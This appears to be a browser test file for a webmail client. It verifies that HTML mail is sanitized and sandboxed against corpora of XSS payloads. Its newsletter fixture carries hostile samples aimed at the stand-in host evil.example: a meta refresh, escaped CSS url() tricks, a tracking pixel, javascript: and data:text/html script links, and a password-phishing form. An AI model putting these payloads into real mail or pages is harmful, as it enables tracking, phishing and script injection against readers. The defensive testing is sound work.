// Features: mail, mail-html, rich-text
import type { Frame, Page } from "playwright-core";
import { expect, test } from "vitest";
import type { SeedKey } from "../../server/src/testing/suite.ts";
import { hasCorpora, payloads } from "./corpora.ts";
import { useHost } from "./host.ts";
import { post } from "./mail-post.ts";
import { sampled, testWhole } from "../../formats/src/testing/whole.ts";

const { host, open } = useHost();

/** The frame of the open mail, once the mail is in it. */
async function mailFrame(page: Page): Promise<Frame> {
  const handle = await page.waitForSelector("iframe[data-ready]");
  return (await handle.contentFrame())!;
}

async function openMail(page: Page, subject: string): Promise<Frame> {
  await page.getByRole("row").filter({ hasText: subject }).click();
  await page.getByRole("heading", { level: 2, name: subject }).waitFor();
  return mailFrame(page);
}

test.skipIf(!hasCorpora)(
  "no payload of the known collections runs a script, opens anything or asks anybody",
  async () => {
    expect(payloads().length).toBeGreaterThan(370);
    const bodies = sampled(payloads(), 5);
    // Shared among three windows, which do not wait for each other.
    const readers = sampled(["alice", "dave", "jimin"] as const, 1);
    await post(
      host,
      bodies.map((html, index) => ({
        to: host.people[readers[index % readers.length]!].address,
        subject: `payload-${index}`,
        // Words around it, so that the payload stands inside a page.
        html: `<p>before</p>${html}<p>after</p>`,
      })),
    );
    const seen = await Promise.all(readers.map(readAll));
    expect(new Set(seen.flat()).size).toBe(bodies.length);
  },
  600_000,
);

/** Opens every mail of a person's inbox, one after the other; answers their subjects. */
async function readAll(who: SeedKey): Promise<string[]> {
  const opened = await open(who);
  const { page } = opened;
  const events: string[] = [];
  page.on("dialog", (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on("page", (other) => events.push(`window: ${other.url()}`));
  page.on("download", (download) => events.push(`download: ${download.url()}`));
  page.on("framenavigated", (frame) => {
    const isMail = new URL(frame.url(), host.url).pathname === "/frame/mail";
    if (frame !== page.mainFrame() && !isMail && frame.url() !== "about:blank")
      events.push(`navigation: ${frame.url()}`);
  });
  await page.getByRole("row").first().click();
  await mailFrame(page);
  const shown = await page.evaluate(walk);
  expect(shown.filter(({ hazards }) => hazards.length > 0)).toEqual([]);
  expect(events).toEqual([]);
  const asked = opened.requests
    .map(({ url }) => url)
    .filter((url) => /^https?:/.test(url))
    .map((url) => new URL(url))
    .filter(({ origin, pathname }) => origin !== host.url || !OURS.test(pathname));
  expect(asked.map(String)).toEqual([]);
  expect(opened.requests.filter(({ status = 200 }) => status >= 400)).toEqual([]);
  await opened.expectQuiet({ allow: CLEANING });
  await page.context().close();
  return shown.map(({ subject }) => subject);
}

/**
 * A mail is parsed and cleaned in a document without a window that shares its frame's policy; the browser says of each
 * handler there that it would not run. What is then shown holds none: `hazards` looks.
 */
const CLEANING = [/Blocked script execution in/, /Setting the document's base URI/];

/** What the client itself asks for. */
const OURS =
  /^\/(?:$|mail\/folder\/|assets\/|remotes\/drive\/|api\/session$|jmap\/|\.well-known\/jmap$|frame\/mail$)/;

/**
 * Goes from the open mail to the last one by the key for it, and reports of each whatever could run, load, send or take
 * over. It runs inside the page as one piece: hundreds of mails, each asked about from outside, would take minutes.
 */
async function walk(): Promise<{ subject: string; hazards: string[] }[]> {
  const forbidden =
    "script, iframe, frame, object, embed, form, input, button, textarea, select, link, meta, base, video, audio, source, svg, math, template";
  const addresses =
    /^(?:href|action|data|background|xlink:href|formaction|srcset|poster|src|lowsrc|ping)$/;
  const harmless = /^(?:https?:|mailto:|tel:|#)/i;
  const held = /^(?:data:image\/|blob:)/;

  function hazardsIn(mail: Document): string[] {
    const found = [...mail.body.querySelectorAll(forbidden)].map(({ localName }) => localName);
    for (const { localName, attributes } of mail.querySelectorAll("*"))
      for (const { name, value } of attributes) {
        const isFine = name === "href" ? harmless.test(value) : held.test(value);
        if (name.startsWith("on") || (addresses.test(name) && !isFine))
          found.push(`${localName} ${name}=${value}`);
      }
    return found;
  }
  const title = () => document.querySelector(".mail-reader-title h2")?.textContent;
  const frame = () => document.querySelector<HTMLIFrameElement>("iframe[data-ready]");
  const next = () =>
    document.querySelector<HTMLButtonElement>("button[aria-label='Older conversation']");

  const shown: { subject: string; hazards: string[] }[] = [];
  for (let last: string | undefined; ;) {
    const end = performance.now() + 120_000;
    while (!title() || title() === last || !frame()?.contentDocument?.body.hasChildNodes()) {
      if (performance.now() > end) throw new Error(`Nothing came after ${last}`);
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    last = title()!;
    shown.push({ subject: last, hazards: hazardsIn(frame()!.contentDocument!) });
    // Whatever waits for a picture to fail or a timer has its moment.
    await new Promise((resolve) => setTimeout(resolve, 25));
    if (next()!.disabled) return shown;
    document.dispatchEvent(new KeyboardEvent("keydown", { key: "j", code: "KeyJ", bubbles: true }));
  }
}

const NEWSLETTER = `<!doctype html><html><head>
<title>Weekly</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>
@import url("https://evil.example/import.css");
@font-face { font-family: Brand; src: url(https://evil.example/brand.woff2) }
body { margin: 0; background-color: #f4efe6 }
.card { background-color: rgb(255, 255, 255); border-radius: 12px; padding: 24px }
.hero { background-image: u\\72l(https://evil.example/hero.png); background-color: rgb(10, 80, 60) }
.late { background: var(--none, url(https://evil.example/late.png)); color: rgb(7, 8, 9) }
.sly { list-style-image: var(--none, u\\72l(https://evil.example/sly.png)) }
h1.title { color: rgb(180, 40, 20); font-size: 31px; text-transform: uppercase }
@media (max-width: 5000px) { .wide { letter-spacing: 3px } }
@media (prefers-color-scheme: dark) { .card { background-color: rgb(0, 0, 0) } }
</style></head>
<body bgcolor="#f4efe6">
<table width="600" align="center" style="border-collapse: collapse"><tr><td class="card" background="https://evil.example/td.png">
<div class="hero" style="padding: 7px; background: rgb(10, 80, 60) url('https://evil.example/inline.png')">hero</div>
<h1 class="title" style="margin: 5px 0">Hello</h1>
<p class="wide" style="color: rgb(1, 2, 3)">text</p>
<ul class="late"><li class="sly">late</li></ul>
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="https://evil.example/photo.jpg" width="200" height="100" alt="A photo">
<img src="cid:logo@test" width="20" height="20" alt="Logo" id="logo">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" id="dot" alt="">
<a id="good" href="https://shop.example/offer?x=1">offer</a>
<a id="bad" href="javascript:alert(1)">bad</a>
<a id="sly" href="data:text/html,<script>alert(1)</script>">sly</a>
<a id="here" href="#end">down</a>
<form action="https://evil.example/"><input name="password"><button>Go</button></form>
<p id="end">end</p></td></tr></table></body></html>`;

const LOGO = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

test("a newsletter keeps its styles and own pictures; what it wants from elsewhere is blocked and counted", async () => {
  await post(host, [
    {
      to: "bob@demo.test",
      subject: "Weekly",
      html: NEWSLETTER,
      attachments: [
        { filename: "logo.png", content: LOGO, cid: "logo@test", contentType: "image/png" },
      ],
    },
  ]);
  const opened = await open("bob");
  const { page } = opened;
  const frame = await openMail(page, "Weekly");
  const style = (selector: string, name: string): Promise<string> =>
    frame.evaluate(
      ([selector, name]) =>
        getComputedStyle(document.querySelector(selector!)!).getPropertyValue(name!),
      [selector, name],
    );
  expect(await style("body", "background-color")).toBe("rgb(244, 239, 230)");
  expect(await style(".card", "background-color")).toBe("rgb(255, 255, 255)");
  expect(await style(".card", "border-radius")).toBe("12px");
  expect(await style(".hero", "background-color")).toBe("rgb(10, 80, 60)");
  expect(await style(".hero", "background-image")).toBe("none");
  expect(await style(".hero", "padding-top")).toBe("7px");
  expect(await style(".late", "background-image")).toBe("none");
  expect(await style(".late", "color")).toBe("rgb(7, 8, 9)");
  expect(await style(".sly", "list-style-image")).toBe("none");
  expect(await style("h1.title", "color")).toBe("rgb(180, 40, 20)");
  expect(await style("h1.title", "font-size")).toBe("31px");
  expect(await style("h1.title", "text-transform")).toBe("uppercase");
  expect(await style("h1.title", "margin-top")).toBe("5px");
  expect(await style(".wide", "letter-spacing")).toBe("3px");
  expect(await style(".wide", "color")).toBe("rgb(1, 2, 3)");

  expect(
    await frame.evaluate(() => document.querySelector<HTMLImageElement>("#logo")!.naturalWidth),
  ).toBe(1);
  expect(await frame.locator("#dot").getAttribute("src")).toContain("data:image/gif");
  expect(await frame.locator("#good").getAttribute("rel")).toBe("noopener noreferrer");
  expect(await frame.locator("#good").getAttribute("target")).toBe("_blank");
  expect(await frame.locator("#bad").getAttribute("href")).toBeNull();
  expect(await frame.locator("#sly").getAttribute("href")).toBeNull();
  expect(await frame.locator("form, input, button, link, meta").count()).toBe(0);
  // Import, font, two heroes, one in a variable's place, a table's background, two pictures.
  await page.getByText("8 images are blocked").waitFor();

  await frame.locator("#good").hover();
  await page.getByText("https://shop.example/offer?x=1").waitFor();
  await opened.expectQuiet();
  await page.context().close();
});

test("the frame is as high as its mail, and keys pressed inside it still act", async () => {
  await post(host, [
    { to: "carol@demo.test", subject: "Tall", html: `<div style="height: 2400px">tall</div>` },
    {
      to: "carol@demo.test",
      subject: "Wide",
      html: `<div style="width: 1800px; height: 90px">wide</div>`,
    },
  ]);
  const opened = await open("carol");
  const { page } = opened;
  await openMail(page, "Tall");
  await expect
    .poll(() => page.locator("iframe[data-ready]").evaluate((element) => element.clientHeight))
    .toBeGreaterThan(2390);
  const frame = await openMail(page, "Wide");
  await expect
    .poll(() => frame.evaluate(() => document.body.getBoundingClientRect().width))
    .toBeLessThan(1200);
  await frame.locator("div").click();
  await page.keyboard.press("s");
  await expect
    .poll(() =>
      page
        .getByRole("row")
        .filter({ hasText: "Wide" })
        .locator(".mail-star")
        .getAttribute("data-on"),
    )
    .toBe("true");
  await opened.expectQuiet();
  await page.context().close();
});

testWhole(
  "a mail without a typeface of its own is set in the suite's, which its frame cannot fetch",
  async () => {
    await post(host, [
      { to: "carol@demo.test", subject: "Unstyled", html: "<p>Set as all the rest is.</p>" },
    ]);
    const opened = await open("carol");
    const { page } = opened;
    await openMail(page, "Unstyled");
    /** How wide words are, beside how wide they would be in the system's typeface. */
    const width = (family: string) =>
      page.locator("iframe[data-ready]").evaluate((element, named) => {
        const { ownerDocument, contentDocument } = element as HTMLIFrameElement;
        const pen = (document: Document): number => {
          const context = document.createElement("canvas").getContext("2d")!;
          context.font = `14px ${named}`;
          return context.measureText("Set as all the rest is.").width;
        };
        return [pen(contentDocument!), pen(ownerDocument)];
      }, family);
    const [, ours] = await width('"Inter Variable", monospace');
    const [, others] = await width("monospace");
    expect(ours).not.toBe(others);
    await expect.poll(async () => (await width('"Inter Variable", monospace'))[0]).toBe(ours);
    await opened.expectQuiet();
    await page.context().close();
  },
);

test("the frame itself refuses scripts, forms and foreign addresses, should anything get past the cleaning", async () => {
  const opened = await open("bob");
  const { page } = opened;
  const response = await page.context().request.get(`${host.url}/frame/mail`);
  const policy = response.headers()["content-security-policy"]!;
  for (const rule of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "sandbox"])
    expect(policy).toContain(rule);
  expect(policy).not.toContain("allow-scripts");
  expect(policy).not.toContain("allow-top-navigation");
  await page.context().close();
});
